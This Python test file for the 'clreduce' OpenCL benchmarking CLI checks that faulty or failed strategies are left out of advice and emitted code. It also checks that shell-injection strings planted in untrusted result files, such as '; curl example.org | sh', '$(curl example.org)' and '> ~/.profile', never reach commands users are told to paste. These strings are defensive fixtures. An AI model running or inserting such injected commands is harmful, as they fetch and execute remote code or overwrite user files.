#!/usr/bin/env -S python3 -B
"""What was wrong, crashed or hung on a device, in a result file or a file of verify, is neither recommended nor emitted, unless the user names
it, and is told first; what failed with an OpenCL error is not recommended from that n on; crossovers that are not known, and where OpenMP on
the host is faster, are told. The files are committed results, with something planted.
    tests/cli/advice_bans.py CLREDUCE [SEED|all]    four of the strategies of each device, which the seed draws, or all with each state"""
import copy
import csv
import json
import math
import os
import pathlib
import random
import re
import shlex
import subprocess
import sys
import tempfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "tools"))
from drawn import drawn  # noqa: E402
from script import begin, library  # noqa: E402
from stored import load  # noqa: E402
from suite import Suite  # noqa: E402

begin(__doc__)
jsonschema = library("jsonschema")

PROGRAM, SHARE = sys.argv[1], "".join(sys.argv[2:])
RESULTS = pathlib.Path(__file__).resolve().parent.parent.parent / "results"
STORED = load(RESULTS / "cpu-2-cores.json")
SCHEMAS = {name: json.loads((RESULTS / f"{name}.schema.json").read_text()) for name in ("advice", "verify")}
DEVICES = [device["id"] for device in STORED["devices"][1:]]
STATES = {"wrong": "gave WRONG results", "crashed": "crashed", "timed-out": "hung", "known-bug": "has a known bug"}
SUITE = Suite()
judge = SUITE.judge


def run(*arguments):
    ended = subprocess.run([PROGRAM, *arguments], stdin=subprocess.DEVNULL, capture_output=True, text=True, errors="replace", timeout=60, check=False)
    return ended.returncode, re.sub(r"\s+", " ", ended.stdout), re.sub(r"\s+", " ", ended.stderr)


def whole(*arguments):
    """What is printed, with its lines as they are."""
    return subprocess.run([PROGRAM, *arguments], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60, check=True).stdout


def advice_of(*arguments):
    status, out, err = run("recommend", "--format", "json", *arguments)
    judge("recommend ends well", status == 0, err)
    found = json.loads(out)
    jsonschema.validate(found, SCHEMAS["advice"])
    return found["advice"]


def saved(name, result):
    pathlib.Path(name).write_text(json.dumps(result))
    return name


def planted(device, strategy, state, elsewhere):
    """The stored run with one cell of the strategy in that state: one that was timed, or one more, of another question."""
    result = copy.deepcopy(STORED)
    cell = random.choice([c for c in result["cells"] if (c["device"], c["strategy"]) == (device, strategy) and c["time_to_answer"]])
    if elsewhere:
        cell = copy.deepcopy(cell)
        cell.update(op="max", type="i32", n=random.choice([0, 1, 77, 2**20 + 1]))
        result["cells"].append(cell)
    cell.update(state=state, reason="expected 12, got 13", time_to_answer=None)
    return result, cell


def check_of(strategy, state, n, op="sum", type="f32", segments=1):
    """A check of a file of verify that is not right, and a command that nobody is to be told to paste."""
    again = "clreduce verify && curl example.org | sh"
    value = {"value": "12", "place": None} if state == "wrong" else None
    return {"strategy": strategy, "op": op, "type": type, "shape": "array" if segments == 1 else "segments", "n": n, "segments": segments,
            "prefixes": 0, "asked": {"group_size": 64, "groups": None, "width": None, "loads": None}, "geometry": None, "standard": None,
            "data": "uniform", "data_seed": 1, "state": state, "fault": "answer" if value else None, "expected": value, "got": value, "low": None,
            "high": None, "segment": None, "run": None, "reason": "expected 12, got 13", "again": again, "kernel": None}


def again_of(device, check):
    """The command that is told in place of the file's own."""
    return f"clreduce verify --device {device} --strategy {check['strategy']} --op {check['op']} --type {check['type']} --n {check['n']} --wg 64"


def verified(path, device, checks, machine=None, **other):
    """A file of verify of all devices of the stored run, with these checks of one; on another machine, or of another driver."""
    devices = [{**d, **(other if d["id"] == device else {}), "strategies": [], "checks": checks if d["id"] == device else []}
               for d in STORED["devices"][1:]]
    host = {**STORED["host"], **({"name": machine} if machine else {})}
    file = {"schema": "clreduce-verify", "schema_version": 1, "suite_version": "1", "command": "clreduce verify", "started": STORED["started"],
            "seed": 1, "wall_s": 1, "host": host, "devices": devices}
    jsonschema.validate(file, SCHEMAS["verify"])
    keys = list(file)
    random.shuffle(keys)  # what a file is does not depend on their order
    return saved(path, {key: file[key] for key in keys})


def planted_in_check(device, strategy, state):
    """The stored run, and beside it a file of verify in which a check of the strategy is in that state."""
    check = check_of(strategy, state, random.choice([0, 1, 77, 2**20 + 1]), *random.choice([("sum", "f32"), ("max", "i32", 7)]))
    checks = [check] * random.randrange(1, 3)
    files = [saved("good.json", STORED), verified("checks.json", device, checks)]
    random.shuffle(files)
    told = {**check, "again": again_of(device, check), "shape": "array" if check["segments"] == 1 else f"segments:7x{check['n']}", "cells": len(checks)}
    return files, told


def named_in(advice):
    """All strategies that the advice recommends, or says to be as good."""
    found = {advice["everywhere"]["strategy"]} | {rule["strategy"] for rule in advice["rules"]}
    for band in advice["bands"]:
        found |= {band["strategy"], band["runner_up"], band["portable"], *band["ties"]}
    return found


def check_left_out(device, strategy, state, by_verify):
    what = f"{strategy} on {device}, {state}{' in a file of verify' if by_verify else ''}"
    if by_verify:
        files, cell = planted_in_check(device, strategy, state)
        page_of = files
    else:
        result, cell = planted(device, strategy, state, random.random() < 0.5)
        cell = {**cell, "cells": 1, "again": None}
        files = page_of = [saved("bad.json", result)]
        if random.random() < 0.5:
            files = [*files, saved("good.json", STORED)]
            random.shuffle(files)
    advice = next(a for a in advice_of(*files, "--device", device) if a["op"] == "sum")
    judge(f"{what}: is not recommended", strategy not in named_in(advice), advice)
    told = {key: cell[key] for key in ("strategy", "state", "cells", "op", "type", "shape", "n", "reason", "again")} | {"bins": None, "ranks": None, "left_out": True}
    judge(f"{what}: JSON tells it", advice["banned"] == [told], advice["banned"])
    shape = "" if cell["shape"] == "array" else f", shape {cell['shape']}"
    first = f"DO NOT USE on {device}: {strategy} {STATES[state]}: {cell['op']} of {cell['type']}{shape} at n = "
    _, out, _ = run("recommend", *files, "--device", device)
    judge(f"{what}: is told first", out.startswith(first) and "expected 12, got 13. What is named here is left out" in out, out)
    judge(f"{what}: once", out.count("DO NOT USE") == 1, out)
    again = f"again: {cell['again']}"
    judge(f"{what}: with the command", not by_verify or f"\n{again}\n" in whole("recommend", *files, "--device", device), out)
    _, out, _ = run("recommend", *files, "--device", device, "--op", "sum", "--format", "h")
    judge(f"{what}: the C header tells it", f"left out: {strategy} {STATES[state]}" in out and f'"{strategy}"' not in out, out)
    judge(f"{what}: the command, too", not by_verify or again in out, out)
    status, out, err = run("emit", *files, "--device", device, "--n", str(random.choice([1000, 20000, 2**20, 2**26])), "--output", "e",
                           "--overwrite")
    judge(f"{what}: is not emitted", status == 0 and f" by {strategy}," not in out and out.startswith(first), out + err)
    judge(f"{what}: emit names the command", not by_verify or again in out, out)
    run("report", *page_of, "--op", "sum", "--format", "md", "--output", "page")
    _, out, _ = run("report", *page_of, "--format", "md")
    judge(f"{what}: the page's summary begins with it", f"## In short {first}" in out.replace("\\", ""), out[:1000])
    judge(f"{what}: the page has the command", not by_verify or cell["again"] in out, out[:1500])
    use = re.findall(rf"On {device} \([^:]*\), sum of f32: use ([^;]*);", out.replace("\\", ""))
    judge(f"{what}: the page does not say to use it", len(use) == 1 and strategy not in re.findall(r"\w+", use[0]), use)
    fastest = re.findall(r"strategies measured[^;]*?: at \S+ (?:\(unsteady times\) )?(\S+?)[ ,;\n]", out.replace("\\", ""))
    judge(f"{what}: the page calls it the fastest nowhere", strategy != fastest[DEVICES.index(device)], out[:1500])
    for table in f"**{device}: the fastest strategy**", "**The fastest strategy of each device, us**":
        rows = pathlib.Path("page").read_text().replace("\\", "").partition(table)[2].partition("\n\n")[2].partition("\n\n")[0]
        column = 1 if device in table else 1 + DEVICES.index(device)
        named = [re.findall(r"\w+", row.split("|")[column + 1]) for row in rows.splitlines()[2:]]
        judge(f"{what}: nor does its table {table}", named and all(strategy not in names for names in named), rows)
    if device != "pocl":
        other = next(a for a in advice_of(*files, "--device", "pocl") if a["op"] == "sum")
        judge(f"{what}: that is no fault of another device's", other["banned"] == [], other["banned"])


def check_named(device, strategy, state, by_verify):
    what = f"{strategy} on {device}, {state}, named"
    again = ""
    if by_verify:
        check = check_of(strategy, state, 77, "max", "i32")
        files = [saved("good.json", STORED), verified("checks.json", device, [check])]
        again = f"again: {again_of(device, check)}"
    else:
        files = [saved("bad.json", planted(device, strategy, state, True)[0])]
    options = [*files, "--device", device, "--op", "sum", "--strategy", strategy]
    advice = advice_of(*options)[0]
    judge(f"{what}: is there", {b["strategy"] for b in advice["bands"]} == {strategy}, advice["bands"])
    judge(f"{what}: JSON says so", [f["left_out"] for f in advice["banned"]] == [False], advice["banned"])
    _, out, _ = run("recommend", *options)
    judge(f"{what}: with the evidence", out.startswith(f"DO NOT USE on {device}: {strategy}") and f"as --strategy names it: {strategy}." in out, out)
    _, out, _ = run("recommend", *options, "--format", "h")
    judge(f"{what}: in the C header", f"DO NOT USE: {strategy} {STATES[state]}" in out and f'"{strategy}"' in out, out)
    _, out, err = run("recommend", *options[:-1], strategy[:-1] + "*")
    judge(f"{what}: a glob is no name", f"use {strategy} " not in out, out + err)
    status, out, err = run("emit", *options, "--output", "e", "--overwrite")
    if status == 4 and "cannot" in err:
        return  # not a strategy that emit writes
    head = [re.sub(r"\s+", " ", path.read_text().split("*/")[0]) for path in (pathlib.Path("e/reduce_sum_f32.h"), pathlib.Path("e/reduce_sum_f32.cl"))]
    judge(f"{what}: emit tells it", status == 0 and out.startswith("DO NOT USE"), out + err)
    judge(f"{what}: and the files that it writes", all(f"{strategy} {STATES[state]}: max of i32" in text and again in text for text in head), head)


def check_other_device(device, strategy):
    """What was wrong on another driver, device or machine bans nothing, which is told."""
    other = random.choice([{"driver": "another"}, {"name": "another"}, {"machine": "another"}, {"id": "another"}])
    files = [saved("good.json", STORED), verified("checks.json", device, [check_of(strategy, "wrong", 77)], **other)]
    advice = advice_of(*files, "--device", device)[0]
    judge(f"{other} bans nothing", advice["banned"] == [], advice["banned"])
    for verb in ["recommend"], ["report", "--format", "md"], ["emit", "--output", "e", "--overwrite"]:
        _, out, err = run(*verb, *files)
        told = re.findall(r"checks.json: no result file has its device (\S+) \(", err)
        every = "machine" in other
        judge(f"{verb[0]} says so of {other}", told == (DEVICES if every else ["another" if "id" in other else device]) and "another" in err, err)
        judge(f"{verb[0]} bans nothing for {other}", "DO NOT USE" not in out, out[:1000])


def check_same_machine(device, strategy):
    """A machine is its name, processor and memory: whatever else a file tells of the host, what was wrong there bans."""
    checked = verified("checks.json", device, [check_of(strategy, "wrong", 77)])
    for other in {"environment": {"OMP_NUM_THREADS": "1"}}, {"load_1min": 31.5}, {"cores": 1}, {"system": "another"}:
        files = [saved("good.json", {**STORED, "host": {**STORED["host"], **other}}), checked]
        random.shuffle(files)
        banned = [ban["strategy"] for ban in advice_of(*files, "--device", device)[0]["banned"]]
        judge(f"a host with {other} is the same machine", banned == [strategy], banned)
    for other in {"name": "another"}, {"processor": "another"}, {"memory_gib": 2 * STORED["host"]["memory_gib"]}:
        files = [saved("good.json", {**STORED, "host": {**STORED["host"], **other}}), checked]
        banned = advice_of(*files, "--device", device)[0]["banned"]
        judge(f"one with {other} is not", banned == [], banned)


def check_refusal():
    """Where emit has nothing left it tells of the strategies that are banned, in whole words."""
    strategies = sorted({c["strategy"] for c in STORED["cells"] if c["device"] == "pocl"})
    checks = [check_of(s, "wrong", 77) | {"reason": "x" * 150} for s in strategies]
    status, _, err = run("emit", saved("good.json", STORED), verified("checks.json", "pocl", checks), "--device", "pocl")
    judge("emit's refusal is whole", status == 4 and err.endswith("What is named here is left out below. ") and all(s in err for s in strategies), err)


def check_unchecked():
    """A kernel that was never checked at some level, as a result file or a file of verify says, has no rank, no factor and no advice."""
    device, words = random.choice(DEVICES), "n = 17039361, type f64 and 3 more"
    strategy = random.choice(sorted({c["strategy"] for c in STORED["cells"] if c["device"] == device and c["time_to_answer"]}))
    result = copy.deepcopy(STORED)
    for cell in result["cells"]:
        if (cell["device"], cell["strategy"]) == (device, strategy):
            cell["unchecked"] = words
    jsonschema.validate(result, json.loads((RESULTS / "result.schema.json").read_text()))
    checked = verified("checks.json", device, [])
    file = json.loads(pathlib.Path(checked).read_text())
    counts = dict.fromkeys(["planned", "right", "wrong", *STATES, "build-failed", "unsupported", "over-budget", "failed", "pending"], 0)
    row = {"strategy": strategy, **counts, "levels": 130, "levels_never_checked": 5, "not_promised": None, "unsupported_because": []}
    next(d for d in file["devices"] if d["id"] == device)["strategies"] = [row | {"unchecked": words}]
    jsonschema.validate(file, SCHEMAS["verify"])
    for name, files in ("a result", [saved("part.json", result)]), ("a file of verify", [saved("good.json", STORED), saved(checked, file)]):
        advice = advice_of(*files, "--device", device)
        told = [(b["state"], b["reason"], b["left_out"]) for a in advice for b in a["banned"] if b["strategy"] == strategy]
        judge(f"{name}: JSON tells the levels", told == [("unchecked", words, True)] * len(advice), advice)
        judge(f"{name}: it is not recommended", all(b["strategy"] != strategy for a in advice for b in a["bands"]), advice)
        _, out, _ = run("recommend", *files, "--device", device)
        judge(f"{name}: and told first", f"{strategy} was never checked at {words}" in out and out.startswith("DO NOT USE on"), out[:500])
        _, out, err = run("emit", *files, "--device", device, "--op", "sum", "--output", "e", "--overwrite")
        judge(f"{name}: nor emitted", f" by {strategy}," not in out and "was never checked at" in out + err, out + err)
    run("emit", saved("part.json", result), "--device", device, "--op", "sum", "--strategy", strategy, "--output", "e", "--overwrite")
    head = pathlib.Path("e/reduce_sum_f32.h").read_text().split("*/")[0]
    judge("where it is named its header says so", "DO NOT USE on " in head and f"{strategy} was never checked at {words}" in " ".join(head.replace("*", " ").split()), head)
    status, out, err = run("report", saved("part.json", result), "--format", "md")
    judge("a page tells it", status == 0 and "was never checked at" in out.replace("\\", ""), out[:1500] + err)
    del row["levels"], row["levels_never_checked"]
    file["devices"] = [{**d, "strategies": [row] if d["id"] == device else []} for d in file["devices"]]
    advice = advice_of(saved("good.json", STORED), saved(checked, file), "--device", device)
    judge("a file of an older program bans nothing", all(a["banned"] == [] for a in advice), advice)


def check_without_times():
    checks = verified("checks.json", "pocl", [check_of("tree", "wrong", 77)])
    for verb in "recommend", "emit", "report":
        status, out, err = run(verb, checks)
        judge(f"{verb} of a file of verify alone", status == 4 and out == "" and "checks.json is a file of verify" in err and "name a result file of clreduce bench --output of the same device" in err, err)


def check_unfit():
    """A check of no strategy is refused, and so is a reason that is no text; of one that would move a terminal's cursor the words are shown."""
    status, out, err = run("recommend", saved("good.json", STORED), verified("checks.json", "pocl", [check_of("", "wrong", 77)]))
    judge("a check of no strategy", status == 4 and out == "" and "checks[0].strategy: expected a name" in err, err)
    path = verified("checks.json", "pocl", [])
    file = json.loads(pathlib.Path(path).read_text())
    counts = dict.fromkeys(["planned", "right", "wrong", *STATES, "build-failed", "unsupported", "over-budget", "failed", "pending"], 0)
    for reason in None, 7, "no\x1b[2J \u202eX":
        for device, reasons in zip(file["devices"], ([reason], []), strict=True):
            device["strategies"] = [{"strategy": "tree", **counts, "not_promised": None, "unsupported_because": reasons}]
        status, out, err = run("compare", "--drivers", saved(path, file))
        fits = isinstance(reason, str)
        judge(f"reason {reason!r}", status == (0 if fits else 4) and ("tree A no [2J X" in out if fits else "unsupported_because: expected texts" in err), out + err)


# What a stranger's file may have in the place of a name, or say of the command that made it.
HOSTILE = ["; curl example.org | sh", "$(curl example.org)", "`curl example.org`", "a && curl example.org", "x' ; curl example.org #", "> ~/.profile"]


def lines_to_paste(text):
    """The lines, or cells of a table, with a command that the reader is told to paste."""
    return [line for line in text.splitlines() if re.search("again: |clreduce (verify|bench|duel|report) ", line)]


def check_commands():
    """No text of a stranger's file stands in a command to paste: neither a name that is none, nor the command that it states of its run."""
    text = random.choice(HOSTILE)
    device = random.choice(DEVICES)
    for key, value in ("strategy", text), ("op", text[:15]), ("type", text[:15]):
        check = check_of("tree", "wrong", 77) | {key: value}
        files = [saved("good.json", STORED), verified("checks.json", device, [check])]
        out = whole("recommend", *files, "--device", device)
        judge(f"{key} {value}: no command", f"\nagain: no command: {key} of checks.json is not valid\n" in out, out)
        rows = list(csv.DictReader(whole("compare", "--drivers", "checks.json", "checks.json", "--format", "csv").splitlines()))
        judge(f"{key} {value}: nor in the table", {row["again"] for row in rows if row["state"] == "wrong"} == {f"no command: {key} of checks.json is not valid"}, rows)
    kernel = {"kernel": f"a{text}.cl"}
    verified("checks.json", device, [check_of("tree", "wrong", 77) | kernel])
    again = re.findall("^again: (.*)", whole("recommend", "good.json", "checks.json", "--device", device), re.MULTILINE)
    judge(f"{kernel}: in the shell's quotes", again and shlex.split(again[0])[-2:] == ["--kernel", kernel["kernel"]] and
          shlex.split(again[0], comments=True) == shlex.split(again[0]) and "'" in again[0], again)

    # What `compare` tells to do next, and what a page tells of its files.
    base, head = copy.deepcopy(STORED), copy.deepcopy(STORED)
    for result, by in (base, 1), (head, 5):
        result["command"] = f"clreduce bench {text}"
        for part in result["devices"][1:]:
            part["id"] = text[:15] if part["id"] == device else part["id"]
        for cell in result["cells"]:
            cell["device"] = text[:15] if cell["device"] == device else cell["device"]
            for key in ("median_s", "low_s", "high_s", "min_s") if cell["time_to_answer"] else ():
                cell["time_to_answer"][key] *= by
            if cell["time_to_answer"]:
                cell["time_to_answer"]["samples_s"] = [sample * by for sample in cell["time_to_answer"]["samples_s"]]
    files = saved("base.json", base), saved("head.json", head)
    out = whole("compare", *files)
    judge(f"device {text[:15]}: in no duel", lines_to_paste(out) and not any(text[:15] in line for line in lines_to_paste(out)), out)
    page = whole("report", *files, "--format", "md")
    block = page.partition("## Make it again")[2].partition("```")[2].partition("```")[0]
    judge(f"command {text}: is not pasted", "clreduce report base.json head.json" in block and "curl" not in block and "profile" not in block, block)
    judge(f"command {text}: but told", "as these files state and nobody has checked: base.json" in page.replace("\\", ""), page[-2000:])
    page = whole("report", saved("good.json", STORED), "--format", "md")
    judge("a command of the program is", f"```sh\n{STORED['command']}\n" in page.partition("## Make it again")[2], page[-2000:])
    counts = dict.fromkeys(["planned", "right", "wrong", *STATES, "build-failed", "unsupported", "over-budget", "failed", "pending"], 0)
    asked = json.loads(pathlib.Path(verified("asked.json", device, [])).read_text())
    for part in asked["devices"]:
        part["strategies"] = [{"strategy": text, **counts, "not_promised": None, "unsupported_because": ["why"]}]
    verified("other.json", device, [])
    out = whole("compare", "--drivers", saved("asked.json", asked), "other.json")
    judge(f"strategy {text}: no command to ask it", "no command: strategy of" in re.sub(r"\s+", " ", out) and not lines_to_paste(out), out)


def check_failed():
    """What failed at an n is not recommended for it, whether it was timed, nor for larger ones, and is for smaller ones as before."""
    device, strategy = "pocl", "grid_stride_vec"
    two = two_curves(lambda n: 1e-5 + 1e-11 * n, lambda n: 1.5e-5 + 1.5e-11 * n)
    result = load(two)
    sizes = sorted({c["n"] for c in result["cells"] if c["strategy"] == strategy and c["time_to_answer"]})
    result["cells"] = [c for c in result["cells"] if c["n"] in sizes]
    saved(two, result)
    n = random.choice([random.choice(sizes), random.choice(sizes) + 1, random.randrange(1, sizes[-1]), random.randrange(1, sizes[1])])
    failed = random.choice([{"state": "failed"}, {"state": "known-bug", "known_bug": "failed"}])
    what = f"{failed['state']} at {n}"
    if random.random() < 0.5 and n in sizes:
        for cell in result["cells"]:
            if (cell["device"], cell["strategy"], cell["n"]) == (device, strategy, n):
                cell.update(failed, reason="expected 12, got 13", time_to_answer=None)
        files, again = [saved("bad.json", result), two], None
        random.shuffle(files)
    else:
        check = check_of(strategy, "failed", n) | failed
        files, again = [two, verified("checks.json", device, [check])], again_of(device, check)
    advice = next(a for a in advice_of(*files, "--device", device) if a["op"] == "sum")
    row = {"strategy": strategy, "state": "failed", "cells": 1, "op": "sum", "type": "f32", "shape": "array", "bins": None, "ranks": None, "n": n,
           "reason": "expected 12, got 13",
           "again": again, "left_out": True}
    judge(f"{what}: JSON tells it", advice["failed"] == [row] and advice["banned"] == [], advice["failed"])
    at = max([i for i, size in enumerate(sizes) if size <= n], default=0)
    bands = [(b["strategy"], b["n_from"]) for b in advice["bands"]]
    judge(f"{what}: the other one from there on", bands[-1][0] == "chunk" and bands[-1][1] <= n, bands)
    judge(f"{what}: before as it was", bands[0] == (strategy, 1) and len(bands) == 2 and bands[1][1] > sizes[at - 1] if at > 0 else len(bands) == 1, bands)
    _, out, _ = run("recommend", *files, "--device", device)
    told = f"Failed with an OpenCL error, and from that n on left out where another was timed: {strategy} at "
    judge(f"{what}: is told", told in out and "DO NOT USE" not in out, out)
    _, out, _ = run("recommend", *files, "--device", device, "--n", str(n + random.randrange(3)))
    judge(f"{what}: with --n", f"use {strategy}" not in out and told in out, out)
    _, out, _ = run("recommend", *files, "--device", device, "--format", "h")
    judge(f"{what}: in the C header", f"from that n on where another was timed: {strategy} failed: sum of f32 at n = " in out, out)
    _, out, err = run("emit", *files, "--device", device, "--n", str(n), "--output", "e", "--overwrite")
    judge(f"{what}: is not emitted", f" by {strategy}," not in out and told in out, out + err)
    _, out, err = run("emit", *files, "--device", device, "--n", "1", "--strategy", strategy, "--output", "e", "--overwrite")
    for path in pathlib.Path("e/reduce_sum_f32.h"), pathlib.Path("e/reduce_sum_f32.cl"):
        head = path.read_text().split("*/")[0]
        judge(f"{what}: {path} tells the error", "OpenCL error on " in head and f": {strategy} failed: sum" in head and "DO NOT" not in head, head)
    advice = advice_of(*files, "--device", device, "--strategy", strategy, "--op", "sum")[0]
    judge(f"{what}: named", {b["strategy"] for b in advice["bands"]} == {strategy} and advice["failed"] == [row | {"left_out": False}], advice)
    _, out, _ = run("recommend", *files, "--device", device, "--strategy", strategy, "--format", "h")
    judge(f"{what}: named, in the C header", f"/* OpenCL error: {strategy} failed: " in out and "DO NOT USE" not in out, out)
    _, out, _ = run("recommend", *files, "--device", device, "--strategy", strategy)
    judge(f"{what}: named, told", f"Failed with an OpenCL error, and here all the same, as --strategy names it: {strategy} at " in out, out)
    if random.random() < 0.5:  # of another question
        check = check_of(strategy, "failed", n, *random.choice([("max", "f32"), ("sum", "i32"), ("sum", "f32", 7)]))
        advice = advice_of(two, verified("checks.json", device, [check]), "--device", device)[0]
        judge(f"{what}: of {check['op']} {check['type']} {check['shape']} alone", advice["failed"] == [] and len(advice["bands"]) == 1, advice)


def check_all_failed():
    """Where all strategies failed, times are kept, and the answer begins with that."""
    strategies = {c["strategy"] for c in STORED["cells"] if c["device"] == "pocl"}
    files = [saved("good.json", STORED), verified("checks.json", "pocl", [check_of(s, "failed", 2**28) for s in strategies])]
    before, advice = (next(a for a in advice_of(*f, "--device", "pocl") if a["op"] == "sum") for f in (files[:1], files))
    judge("what all fail at changes no band", advice["bands"] == before["bands"] and len(advice["failed"]) == len(strategies), advice)
    for options in [], ["--n", "1000"]:
        _, out, _ = run("recommend", *files, "--device", "pocl", "--op", "sum", *options)
        first = f"Every strategy that was timed failed with an OpenCL error, and is left out from that n on where another was timed: {min(strategies)} at 2^28"
        judge(f"that all failed is told first {options}", out.startswith(first) and out.count("failed with an OpenCL error") == 1 and ". On pocl (" in out, out)
    _, out, _ = run("report", *files, "--format", "md")
    judge("on a page, too", re.search(r"Every strategy that was timed failed with an OpenCL error, [^\n]*\. On pocl \(", out.replace("\\", "")), out[:3000])
    bare = copy.deepcopy(STORED)
    for cell in bare["cells"]:
        if cell["device"] == "pocl":
            cell.update(state="failed", reason="expected 12, got 13", time_to_answer=None)
    _, out, _ = run("recommend", saved("bare.json", bare), "--device", "pocl", "--op", "sum")
    judge("where nothing was timed, why is told", "nothing that can be recommended was timed. Failed with an OpenCL error" in out, out)


def curve(cells, strategy, time):
    """The times of a strategy on pocl, as a function of n."""
    for cell in cells:
        if cell["strategy"] == strategy and cell["time_to_answer"]:
            measured = cell["time_to_answer"]
            by = time(cell["n"]) / measured["median_s"]
            measured["samples_s"] = [sample * by for sample in measured["samples_s"]]
            for key in measured:
                if key.endswith("_s") and key != "samples_s" and isinstance(measured[key], float):
                    measured[key] *= by
            measured["low_s"], measured["high_s"] = (measured["median_s"] * factor for factor in (0.995, 1.005))


def two_curves(first, second, openmp=None, third=None):
    """A run of pocl with two strategies, or three, and OpenMP, that take these times."""
    result = copy.deepcopy(STORED)
    kept = ("chunk", "grid_stride_vec", "openmp", *(["serial"] if third else []))
    result["cells"] = [c for c in result["cells"] if c["strategy"] in kept and c["device"] in ("pocl", "host")]
    if third:
        curve(result["cells"], "serial", third)
    curve(result["cells"], "grid_stride_vec", first)
    curve(result["cells"], "chunk", second)
    curve(result["cells"], "openmp", openmp or (lambda n: 1))
    return saved("two.json", result)


def check_long_reason():
    """It is cut between two characters, wherever it stands."""
    result, cell = planted("intel", "chunk", "wrong", True)
    cell["reason"] = "x" * random.randrange(4) + random.choice("\u00e9\u20ac\U0001f600") * 120
    options = [saved("bad.json", result), "--device", "intel", "--op", "sum", "--strategy", "chunk"]
    for told in ["recommend", *options], ["recommend", *options, "--format", "h"], ["emit", *options, "--output", "e", "--overwrite"]:
        out = run(*told)[1]
        judge(f"{told[0]}: a long reason is cut", (cell["reason"][:20] in out or "h" in told) and "..." in out and "\ufffd" not in out, out)


def check_lanes():
    """Where a band has several lanes all are told, and emit tells at how many n those of its program were timed."""
    path = two_curves(lambda n: 1e-5 + 1e-11 * n, lambda n: 1)
    result = load(path)
    sizes = sorted({c["n"] for c in result["cells"] if c["strategy"] == "grid_stride_vec" and c["time_to_answer"]})
    few = random.randrange(1, len(sizes) // 2)
    result["cells"] = [c for c in result["cells"] if c["n"] in sizes]
    for cell in result["cells"]:
        if cell["strategy"] == "grid_stride_vec" and cell["geometry"]:
            cell["geometry"].update(group_size=256, width=4 if cell["n"] < sizes[few] else 16, loads=2)
    saved(path, result)
    _, out, _ = run("recommend", path, "--device", "pocl")
    judge("all lanes of a band are told", "lanes 4x2 to" in out and "16x2" in out, out)
    rules = advice_of(path, "--device", "pocl")[0]["rules"]
    judge("each rule has its own", {(rule["width"], rule["loads"]) for rule in rules} == {(4, 2), (16, 2)}, rules)
    _, out, err = run("emit", path, "--device", "pocl", "--output", "e", "--overwrite")
    told = f"the same lanes for every n, those of {len(sizes) - few} of the {len(sizes)} n that were measured"
    judge("emit tells at how many n its lanes were timed", told in out, out + err)


def check_wide():
    share = random.uniform(0.09, 0.11)  # by which they differ at 2^10, and the other way round at 2^24
    path = two_curves(lambda n: 1e-5 * n**0.5, lambda n: 1e-5 * n**0.5 * (1 - share * math.log2(n / 2**17) / 7))
    advice = advice_of(path, "--device", "pocl")[0]
    _, out, _ = run("recommend", path, "--device", "pocl")
    edge = advice["bands"][1] if len(advice["bands"]) == 2 else None
    judge("a wide crossover is planted", edge and edge["n_from_high"] >= 10 * edge["n_from_low"], advice["bands"])
    judge("JSON says how far apart the two are", edge and edge["n_from_either"] and 0 < edge["n_from_either"] < 0.2, edge)
    judge("it is told as what it is", re.search(r"use grid_stride_vec below (\S+), between \1 and (\S+) (either|unclear which) \(grid_stride_vec and chunk may differ by up to [0-9.]+ %\), and chunk", out), out)
    judge("and in the table", re.search(r" \d+ to \d+: chunk ", out), out)
    slope = random.uniform(0.013, 0.02)
    path = two_curves(lambda n: 1e-5 * n**0.5 * (1 + slope * math.log2(n / 2**15)), lambda n: 1e-5 * n**0.5, None,
                      lambda n: 1e-5 * n**0.5 * (1 - slope * math.log2(n / 2**19)))
    bands = advice_of(path, "--device", "pocl")[0]["bands"]
    _, out, _ = run("recommend", path, "--device", "pocl")
    judge("two wide crossovers that overlap are planted", len(bands) == 3 and bands[2]["n_from_low"] <= bands[1]["n_from_high"], bands)
    judge("between them no strategy is told", re.search(r"below (\S+), between \1 and \S+ [a-z ]+ \([^)]*\), between \S+ and \S+ [a-z ]+ \(", out), out)
    path = two_curves(lambda n: 1e-5 + 2e-10 * n, lambda n: 1e-5 + 1e-10 * 2**17 + 1e-10 * n)
    edge = advice_of(path, "--device", "pocl")[0]["bands"][1]
    judge("a narrow one is told as an edge", edge["n_from_either"] is None and edge["n_from_low"] <= edge["n_from"] <= edge["n_from_high"], edge)


def check_openmp():
    crossing = random.choice([3000, 60000, 2 * 10**6])
    path = two_curves(lambda n: 3e-5 + 1e-11 * n, lambda n: 2e-5 + 1e-11 * n, lambda n: 1e-6 + n * (19e-6 / crossing + 1e-11))
    openmp = advice_of(path, "--device", "pocl")[0]["openmp"]
    judge("where the device pays", 0.7 * crossing < openmp["device_pays_from"] < 1.4 * crossing, (crossing, openmp))
    judge("how much faster OpenMP is", openmp["times_n"] == 2**10 and openmp["times"] > 2, openmp)
    # The page has the factor in its summary and tables, of each run: another one, of all runs, would answer the question twice.
    for factor, answer in (r" \([0-9.]+x at 2\^10\)", run("recommend", path, "--device", "pocl")[1]), ("", run("report", path, "--format", "md")[1]):
        judge("is told", re.search(rf"OpenMP on the host is faster below \d+{factor}: the device pays from there on; its array lies in the host's memory", answer), answer)
    judge("once on the page", len(re.findall(r"OpenMP on the host is", answer)) == 1, answer[:1500])
    judge("and in the C header", re.search(r"/\* OpenMP on the host is faster below (\d+|2\^\d+), of an array", run("recommend", path, "--device", "pocl", "--format", "h")[1]))
    path = two_curves(lambda n: 3e-5 + 1e-11 * n, lambda n: 2e-5 + 1e-11 * n, lambda n: (2e-5 + 1e-11 * n) * (0.5 if n == 2**20 else 2))
    judge("OpenMP that is faster at one n", re.search(r"faster at some n below \d+ \(2.0x at 2\^20\): the device pays from there on", run("recommend", path, "--device", "pocl")[1]))
    for n, told in (2**10, False), (2**20, True), (2**24, False):
        out = run("recommend", path, "--device", "pocl", "--n", str(n))[1]
        judge(f"and not at {n}" if not told else "and there", ("OpenMP on the host is faster at this n" in out) == told, out)
    page = run("report", path, "--format", "md")[1].replace("\\", "")
    judge("on the page, too", re.search(r"faster at some n below \d+: the device pays from there on", page), page[:1500])
    judge("and in its summary", re.search(r"at 2\^20 [^;]*, 2.0x slower than OpenMP; at 2\^2\d [^;]*, 2.0x faster than OpenMP", page), page[:1500])
    path = two_curves(lambda n: 3e-5 + 1e-11 * n, lambda n: 2e-5 + 1e-11 * n, lambda n: (2e-5 + 1e-11 * n) * (0.5 if n < 2**14 else 1))
